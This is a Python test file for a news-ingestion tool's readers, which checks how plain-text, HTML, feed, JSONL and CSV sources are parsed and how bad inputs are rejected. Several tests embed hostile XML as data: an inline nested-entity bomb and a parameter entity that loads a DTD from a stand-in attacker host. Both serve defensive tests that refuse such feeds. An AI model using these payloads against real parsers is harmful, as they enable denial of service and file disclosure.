"""Ingest readers and every bad input they must survive.

Fixtures in tests/data/ingest are invented reports, realistic in form (not real news);
the hostile ones (entity bombs, external entities, broken lines) are built on purpose.
"""
from __future__ import annotations

import datetime as dt
import io
import os
import shutil
from pathlib import Path

import pytest

from newsfuse.errors import InputError
from newsfuse.ingest import detect_language, read_sources
from newsfuse.ingest.documents import INVALID_UTF8_WARNING, normalise_text
from newsfuse.model import Document
from newsfuse.settings import IngestSettings

DATA = Path(__file__).parent / "data" / "ingest"
SEEDS = Path(__file__).resolve().parents[1] / ".." / "shared" / "seeds"


def read_all(*sources, settings: IngestSettings | None = None):
    items = list(read_sources([str(s) for s in sources], settings))
    docs = [i for i in items if isinstance(i, Document)]
    errors = [i for i in items if isinstance(i, InputError)]
    assert len(docs) + len(errors) == len(items)
    return docs, errors


def read_one(source, settings: IngestSettings | None = None) -> Document:
    docs, errors = read_all(source, settings=settings)
    assert not errors, errors
    assert len(docs) == 1
    return docs[0]


def read_error(source, settings: IngestSettings | None = None) -> InputError:
    docs, errors = read_all(source, settings=settings)
    assert not docs, docs
    assert len(errors) == 1
    return errors[0]


def seed(prefix: str) -> Path:
    matches = sorted(SEEDS.glob(f"{prefix}_*.txt"))
    if not matches:
        pytest.skip(f"seed {prefix} not found under {SEEDS}")
    return matches[0]


# --- plain text and the seed forms ---------------------------------------------------

def test_seed_000_inline_date_header_sets_published_and_is_not_kept_in_text():
    doc = read_one(seed("000"))
    assert doc.published == dt.date(2024, 12, 8)
    assert doc.text.startswith("Due to the overthrow of the regime")
    assert "2024-12-08" not in doc.text.split("\n")[0]
    assert doc.title is None
    assert doc.language == "en"
    assert doc.path == str(seed("000"))


def test_seed_001_without_metadata_keeps_first_line_as_text_and_no_date():
    path = seed("001")
    doc = read_one(path)
    assert doc.published is None  # never invented from mtime or today
    assert doc.title is None
    first_line = path.read_text(encoding="utf-8").split("\n")[0].strip()
    assert doc.text.startswith(first_line)
    assert doc.outlet is None


def test_document_id_and_hash_derive_from_normalised_text():
    doc = read_one(DATA / "report_with_header.txt")
    import hashlib

    digest = hashlib.sha256(normalise_text(doc.text).encode()).hexdigest()
    assert doc.content_hash == digest
    assert doc.id == "d" + hashlib.sha256(f"{doc.url}\x00{digest}".encode()).hexdigest()[:12]
    assert doc.text == normalise_text(doc.text)
    assert read_one(DATA / "report_with_header.txt").id == doc.id


def test_key_value_header_gives_title_outlet_date_url():
    doc = read_one(DATA / "report_with_header.txt")
    assert doc.title == "Power restored to most homes after substation fire"
    assert doc.outlet == "Northern Herald"
    assert doc.published == dt.date(2024, 2, 11)
    assert doc.url == "https://northernherald.example/2024/02/11/power-restored"
    assert doc.text.startswith("Power was restored to about 90 percent")
    assert "Author:" not in doc.text


def test_outlet_falls_back_to_url_domain(tmp_path):
    path = tmp_path / "report.txt"
    path.write_text("url: https://www.dailyharbour.example/a/1\n\n"
                    "The harbour master said two tugboats collided in the fog on Monday.\n")
    doc = read_one(path)
    assert doc.outlet == "dailyharbour.example"


def test_header_requires_known_keys_so_a_colon_in_a_lead_stays_text(tmp_path):
    path = tmp_path / "lead.txt"
    path.write_text("Breaking: the dam upstream has failed, officials say\n\n"
                    "Residents downstream were told to leave their homes at once.\n")
    doc = read_one(path)
    assert doc.title is None
    assert doc.text.startswith("Breaking: the dam upstream has failed")


def test_markdown_front_matter_heading_and_markup():
    doc = read_one(DATA / "report_front_matter.md")
    assert doc.title == "Regatta cancelled as storm approaches"
    assert doc.outlet == "Lakeside Weekly"
    assert doc.published == dt.date(2024, 6, 30)
    assert "**" not in doc.text and "](" not in doc.text and "#" not in doc.text
    assert "Organisers cancelled the annual regatta" in doc.text
    assert "the sailing club said" in doc.text


def test_file_without_extension_is_sniffed_as_text(tmp_path):
    path = tmp_path / "REPORT"
    path.write_text("date: 2024-04-02\n\nThe ministry said 3,000 tonnes of grain left the port.\n")
    doc = read_one(path)
    assert doc.published == dt.date(2024, 4, 2)
    assert doc.text == "The ministry said 3,000 tonnes of grain left the port."


def test_language_detection_per_document():
    assert read_one(DATA / "report_ru.txt").language == "ru"
    assert read_one(DATA / "report_with_header.txt").language == "en"
    assert detect_language("Le gouvernement a annoncé mardi de nouvelles mesures contre "
                           "les inondations dans le sud du pays.") == "fr"
    assert detect_language("Die Regierung kündigte am Dienstag neue Maßnahmen gegen das "
                           "Hochwasser im Süden des Landes an.") == "de"
    assert detect_language("12 345 — 2024") is None


def test_same_text_from_two_files_shares_the_hash_but_not_the_id(tmp_path):
    text = "The port reopened on Thursday after the strike ended, the union said.\n"
    (tmp_path / "a.txt").write_text(text)
    (tmp_path / "b.txt").write_text("\ufeff" + text.replace("\n", "\r\n") + "\n\n")
    docs, errors = read_all(tmp_path)
    assert not errors
    assert [d.path for d in docs] == [str(tmp_path / "a.txt"), str(tmp_path / "b.txt")]
    assert docs[0].content_hash == docs[1].content_hash
    assert docs[0].id != docs[1].id  # a second source: stored, and linked by dedup as a copy


# --- HTML -----------------------------------------------------------------------------

def test_html_article_text_and_metadata():
    doc = read_one(DATA / "article.html")
    assert doc.title == "Floodwaters force evacuations in river valley towns"
    assert doc.outlet == "The Valley Courier"
    assert doc.published == dt.date(2024, 10, 19)
    assert doc.url == "https://valleycourier.example/news/2024/10/19/floods-evacuations"
    assert doc.text.startswith("Emergency services evacuated more than 1,200 residents")
    assert "6.8 metres" in doc.text
    for boilerplate in ("Sport", "Privacy", "window.analytics", "font-family"):
        assert boilerplate not in doc.text


def test_html_date_is_not_guessed_from_the_body(tmp_path):
    paragraph = ("The committee met on 3 January 2025 to review the budget, and members "
                 "said the talks on the new hospital wing would continue next month. ")
    path = tmp_path / "undated.html"
    path.write_text(f"<html><head><title>Budget talks</title></head><body><article>"
                    f"<p>{paragraph * 3}</p></article></body></html>")
    doc = read_one(path)
    assert doc.published is None
    assert doc.outlet is None


def test_html_without_article_is_an_input_error():
    error = read_error(DATA / "index_page.html")
    assert error.source == str(DATA / "index_page.html")
    assert error.problem == "no article text found"
    assert "index_page.html" in str(error)


# --- feeds ----------------------------------------------------------------------------

def test_rss_items_full_content_and_summary_only():
    docs, errors = read_all(DATA / "feed_full.rss")
    assert not errors
    strike, ferry = docs
    assert strike.path == f"{DATA / 'feed_full.rss'}#hg-2024-0304-strike"
    assert strike.title == "Dock workers begin 48-hour strike over shift pay"
    assert strike.outlet == "Harbour Gazette"
    assert strike.url == "https://harbourgazette.example/2024/03/04/dock-strike"
    # The item's own calendar day, not shifted to UTC (23:30 -0500 is the 5th in UTC).
    assert strike.published == dt.date(2024, 3, 4)
    assert strike.partial is False
    assert "14 ships were waiting at anchor" in strike.text
    assert "<b>" not in strike.text and "alert(1)" not in strike.text
    assert ferry.partial is True
    assert ferry.text == ("The ferry operator restored its morning crossings to the islands "
                          "on Tuesday after three days of cancellations caused by the storm.")
    assert ferry.published == dt.date(2024, 3, 5)


def test_atom_entry_with_html_content():
    doc = read_one(DATA / "feed.atom")
    assert doc.path.endswith("feed.atom#urn:uuid:1d7b2c6e-avalanche")
    assert doc.published == dt.date(2024, 1, 15)
    assert doc.partial is False
    assert doc.text == ("The avalanche service raised its warning to level four of five for "
                        "the high passes on Monday after 80 centimetres of fresh snow fell "
                        "over the weekend.\n\nTwo mountain roads were closed as a precaution.")


def test_malformed_feed_is_an_input_error():
    error = read_error(DATA / "malformed.rss")
    assert error.source == str(DATA / "malformed.rss")
    assert error.problem.startswith("malformed feed")


def test_feedparser_itself_never_expands_the_billion_laughs():
    """The guard below is defence in depth: feedparser leaves the entities unexpanded."""
    import feedparser

    parsed = feedparser.parse(io.BytesIO((DATA / "billion_laughs.rss").read_bytes()))
    values = [str(v) for entry in parsed.entries for v in entry.values()]
    assert values
    assert all("lollol" not in value for value in values)
    assert sum(len(value) for value in values) < 10_000


def test_billion_laughs_feed_is_refused_before_parsing(monkeypatch):
    import feedparser

    def must_not_parse(*args, **kwargs):
        raise AssertionError("feedparser was handed a feed with entity declarations")

    monkeypatch.setattr(feedparser, "parse", must_not_parse)
    error = read_error(DATA / "billion_laughs.rss")
    assert error.source == str(DATA / "billion_laughs.rss")
    assert "declares XML entities" in error.problem


def test_external_entity_is_never_read():
    import feedparser

    secret_marker = "root:"  # first line of /etc/passwd on any Unix
    parsed = feedparser.parse(io.BytesIO((DATA / "external_entity.rss").read_bytes()))
    assert all(secret_marker not in str(v) for e in parsed.entries for v in e.values())
    error = read_error(DATA / "external_entity.rss")
    assert "declares XML entities" in error.problem
    assert secret_marker not in str(error)


def test_entity_declarations_are_caught_whatever_their_spelling(tmp_path):
    path = tmp_path / "sneaky.xml"
    path.write_text('<?xml version="1.0"?>\n<!doctype rss [ <!entity % p SYSTEM '
                    '"http://attacker.example/x.dtd"> %p; ]>\n<rss version="2.0"><channel>'
                    '<title>x</title><item><title>t</title><description>Some text here.'
                    '</description></item></channel></rss>')
    assert "declares XML entities" in read_error(path).problem


def test_public_doctype_without_entities_is_accepted(tmp_path):
    path = tmp_path / "old.rss"
    path.write_text(
        '<?xml version="1.0"?>\n<!DOCTYPE rss PUBLIC "-//Netscape Communications//DTD RSS 0.91//EN"'
        ' "http://my.netscape.com/publish/formats/rss-0.91.dtd">\n<rss version="0.91"><channel>'
        '<title>Old Wire</title><link>https://oldwire.example/</link><item><title>Rail strike ends'
        '</title><link>https://oldwire.example/rail</link><description>Train drivers returned to '
        'work on Wednesday after a two-day strike.</description></item></channel></rss>')
    doc = read_one(path)
    assert doc.outlet == "Old Wire"
    assert doc.path == f"{path}#https://oldwire.example/rail"
    assert doc.published is None


# --- bulk files -----------------------------------------------------------------------

def test_jsonl_broken_line_is_reported_and_other_lines_load():
    docs, errors = read_all(DATA / "reports.jsonl")
    file = str(DATA / "reports.jsonl")
    assert [d.path for d in docs] == [f"{file}#wire-101", f"{file}#line-4"]
    wildfire, heat = docs
    assert wildfire.outlet == "Coastal News"  # NewsAPI-style {"source": {"name": ...}}
    assert wildfire.published == dt.date(2024, 8, 2)
    assert wildfire.url == "https://coastalnews.example/wildfire-contained"
    assert heat.title == "Heatwave alert extended" and heat.outlet == "Weather Wire"
    assert heat.published == dt.date(2024, 8, 3)
    assert [e.source for e in errors] == [f"{file}:line 2", f"{file}:line 5", f"{file}:line 6"]
    assert errors[0].problem.startswith("invalid JSON")
    assert "expected a JSON object" in errors[1].problem
    assert errors[2].problem == "record has no text"


def test_csv_rows_with_multiline_field_and_missing_text():
    docs, errors = read_all(DATA / "reports.csv")
    file = str(DATA / "reports.csv")
    assert [d.path for d in docs] == [f"{file}#csv-1", f"{file}#csv-2"]
    assert docs[0].title == "Council approves new tram line"
    assert docs[0].published == dt.date(2024, 5, 14)
    assert docs[1].published == dt.date(2024, 5, 14)  # 14.05.2024 is day-first
    assert docs[1].text.endswith("The new reading rooms have 400 seats, the library said.")
    assert docs[1].url is None
    assert [e.source for e in errors] == [f"{file}:line 5"]


def test_csv_without_text_column_names_its_columns(tmp_path):
    path = tmp_path / "wrong.csv"
    path.write_text("headline,when\nA thing happened,2024-01-01\n")
    error = read_error(path)
    assert error.source == str(path)
    assert "no text column" in error.problem and "headline" in error.problem


# --- bad inputs -----------------------------------------------------------------------

def test_empty_and_whitespace_files_are_input_errors(tmp_path):
    (tmp_path / "empty.txt").write_bytes(b"")
    (tmp_path / "blank.md").write_text("\n   \n\t\n")
    (tmp_path / "empty.jsonl").write_bytes(b"\n\n")
    docs, errors = read_all(tmp_path)
    assert not docs
    assert sorted(Path(e.source).name for e in errors) == ["blank.md", "empty.jsonl", "empty.txt"]
    assert all(e.problem == "empty file" for e in errors)


def test_binary_files_are_input_errors(tmp_path):
    png = b"\x89PNG\r\n\x1a\n\x00\x00\x00\rIHDR\x00\x00\x00\x10" + bytes(range(256)) * 4
    (tmp_path / "photo.txt").write_bytes(png)
    (tmp_path / "blob").write_bytes(b"\x7fELF\x02\x01\x01\x00" + b"\x00" * 200)
    (tmp_path / "page.html").write_bytes(b"<html>\x00\x00\x00\x01\x02</html>")
    docs, errors = read_all(tmp_path)
    assert not docs
    assert sorted(Path(e.source).name for e in errors) == ["blob", "page.html", "photo.txt"]
    assert all(e.problem == "binary file, not text" for e in errors)


def test_invalid_utf8_is_decoded_with_replacement_and_a_warning(tmp_path):
    path = tmp_path / "latin1.txt"
    path.write_bytes("The mayor of Köln said the bridge would reopen.".encode("latin-1"))
    doc = read_one(path)
    assert doc.text == "The mayor of K\ufffdln said the bridge would reopen."
    assert doc.warnings == [INVALID_UTF8_WARNING]
    assert "replacement" in doc.warnings[0]


def test_utf16_file_with_bom_is_text_not_binary(tmp_path):
    path = tmp_path / "utf16.txt"
    path.write_bytes("\ufeffThe ministry confirmed the talks would resume.".encode("utf-16-le"))
    assert read_one(path).text == "The ministry confirmed the talks would resume."


def test_50_mb_text_file_is_truncated_with_a_warning_and_the_batch_goes_on(tmp_path):
    big = tmp_path / "big.txt"
    sentence = "Officials said the convoy crossed the border on Tuesday, witnesses reported. "
    block = (sentence * 100 + "\n").encode()
    with big.open("wb") as stream:
        for _ in range(50 * 1024 * 1024 // len(block) + 1):
            stream.write(block)
    assert big.stat().st_size > 50 * 1024 * 1024
    small = tmp_path / "small.txt"
    small.write_text("A second, ordinary report follows the large one.")
    settings = IngestSettings()
    docs, errors = read_all(big, small, settings=settings)
    assert not errors
    large, ordinary = docs
    assert len(large.text.encode()) <= settings.max_bytes
    assert large.text.endswith("reported.")  # cut at a word boundary
    assert len(large.warnings) == 1 and "truncated" in large.warnings[0]
    assert str(big.stat().st_size) in large.warnings[0]
    assert ordinary.text == "A second, ordinary report follows the large one."


def test_html_over_the_size_cap_is_refused(tmp_path):
    path = tmp_path / "huge.html"
    path.write_text("<html><body><article>" + "<p>Long paragraph of text.</p>" * 2000
                    + "</article></body></html>")
    error = read_error(path, IngestSettings(max_bytes=10_000))
    assert error.source == str(path)
    assert "over the limit of 10000" in error.problem


def test_missing_path_and_unmatched_glob_are_input_errors(tmp_path):
    docs, errors = read_all(tmp_path / "nope.txt", tmp_path / "*.rss", DATA / "feed.atom")
    assert len(docs) == 1  # the good source after two bad ones is still read
    assert errors[0].problem == "no such file or folder"
    assert errors[1].problem == "no files match this pattern"


def test_glob_and_folder_skip_hidden_and_unknown_files(tmp_path):
    shutil.copy(DATA / "report_with_header.txt", tmp_path / "one.txt")
    (tmp_path / "sub").mkdir()
    shutil.copy(DATA / "feed.atom", tmp_path / "sub" / "two.atom")
    (tmp_path / ".hidden.txt").write_text("Hidden files are not reports.")
    (tmp_path / "photo.jpg").write_bytes(b"\xff\xd8\xff\xe0\x00\x10JFIF")
    docs, errors = read_all(tmp_path)
    assert not errors
    assert [Path(d.path).name for d in docs] == ["one.txt", "two.atom#urn:uuid:1d7b2c6e-avalanche"]
    docs, errors = read_all(tmp_path / "**" / "*.atom")
    assert len(docs) == 1 and not errors


def test_file_that_disappears_mid_run_is_an_error_and_the_batch_continues(tmp_path):
    for name in ("a.txt", "b.txt", "c.txt"):
        (tmp_path / name).write_text(f"Report {name}: the council met on Monday to vote.")
    stream = read_sources([str(tmp_path)])
    first = next(stream)
    assert isinstance(first, Document) and first.path.endswith("a.txt")
    os.remove(tmp_path / "b.txt")  # listed already, gone before it is read
    rest = list(stream)
    assert isinstance(rest[0], InputError)
    assert rest[0].source == str(tmp_path / "b.txt")
    assert "disappeared" in rest[0].problem
    assert isinstance(rest[1], Document) and rest[1].path.endswith("c.txt")


def test_unreadable_file_is_an_input_error(tmp_path, monkeypatch):
    path = tmp_path / "locked.txt"
    path.write_text("The council met on Monday.")
    real_open = open

    def deny(file, *args, **kwargs):
        if os.fspath(file) == str(path):
            raise PermissionError(13, "Permission denied", str(path))
        return real_open(file, *args, **kwargs)

    monkeypatch.setattr("builtins.open", deny)
    error = read_error(path)
    assert error.source == str(path) and error.problem == "permission denied"


def test_metadata_dates_are_parsed_as_written_and_relative_ones_refused():
    from newsfuse.ingest import parse_date

    assert parse_date("2024-12-08T23:30:00-05:00") == dt.date(2024, 12, 8)
    assert parse_date("Sun, 08 Dec 2024 23:30:00 -0500") == dt.date(2024, 12, 8)
    assert parse_date("December 8, 2024") == dt.date(2024, 12, 8)
    assert parse_date("08.12.2024") == dt.date(2024, 12, 8)
    assert parse_date(1733616000) == dt.date(2024, 12, 8)
    assert parse_date(1733616000000) == dt.date(2024, 12, 8)
    for unusable in ("yesterday", "last Friday", "2024-13-45", "", None, True, "Dec 2024"):
        assert parse_date(unusable) is None, unusable


def test_bulk_line_over_the_cap_is_skipped_and_named(tmp_path):
    path = tmp_path / "feed.ndjson"
    long_text = "word " * 30_000
    path.write_text('{"text": "The first report is short and fine."}\n'
                    f'{{"text": "{long_text}"}}\n'
                    '{"text": "The third report is also fine.", "date": 1733616000}\n')
    settings = IngestSettings(max_bytes=50_000)
    docs, errors = read_all(path, settings=settings)
    assert [d.path for d in docs] == [f"{path}#line-1", f"{path}#line-3"]
    assert docs[1].published == dt.date(2024, 12, 8)
    assert [e.source for e in errors] == [f"{path}:line 2"]
    assert "longer than" in errors[0].problem


def test_bulk_record_text_over_the_cap_is_truncated_with_a_warning(tmp_path):
    path = tmp_path / "long.jsonl"
    path.write_text('{"text": "' + "Report text. " * 5_000 + '"}\n')
    [doc] = read_all(path, settings=IngestSettings(max_bytes=20_000))[0]
    assert len(doc.text.encode()) <= 20_000
    assert doc.warnings == ["text truncated to max_bytes=20000 (record had 65000 bytes)"]


def test_csv_row_with_invalid_utf8_carries_the_warning(tmp_path):
    path = tmp_path / "mixed.csv"
    path.write_bytes(b"title,text\nGood,The council met on Monday.\n"
                     b"Bad,The mayor of K\xf6ln spoke on Tuesday.\n")
    docs, errors = read_all(path)
    assert not errors
    assert docs[0].warnings == []
    assert docs[1].warnings == [INVALID_UTF8_WARNING]
    assert "K\ufffdln" in docs[1].text


def test_entity_guard_sees_through_comments_and_utf16_but_not_cdata(tmp_path):
    bomb = ('<?xml version="1.0"?>\n<!-- <rss version="2.0"> -->\n<!DOCTYPE rss [\n'
            '<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;">]>\n'
            '<rss version="2.0"><channel><title>x</title><item><description>&b;'
            '</description></item></channel></rss>')
    (tmp_path / "comment.rss").write_text(bomb)
    (tmp_path / "utf16.rss").write_bytes(b"\xff\xfe" + bomb.encode("utf-16-le"))
    (tmp_path / "tutorial.rss").write_text(
        '<?xml version="1.0"?><rss version="2.0"><channel><title>XML Weekly</title><item>'
        '<title>Why parsers refuse entities</title><description><![CDATA[<p>A declaration '
        'such as <code><!ENTITY lol "lol"></code> can be nested until it exhausts memory, '
        'so modern parsers refuse to expand it.</p>]]></description></item></channel></rss>')
    docs, errors = read_all(tmp_path)
    assert sorted(Path(e.source).name for e in errors) == ["comment.rss", "utf16.rss"]
    assert all("declares XML entities" in e.problem for e in errors)
    assert [d.title for d in docs] == ["Why parsers refuse entities"]


@pytest.mark.parametrize("title, outlet", [
    ("Meridian Wire - World: editors' selection", "Meridian Wire"),
    ("World news | The Daily Example", "The Daily Example"),
    ("Kyiv Independent", "Kyiv Independent"),
    ("   ", None),
])
def test_feed_title_names_the_outlet_without_its_section(title, outlet):
    from newsfuse.ingest.feeds import outlet_from_feed_title

    assert outlet_from_feed_title(title) == outlet
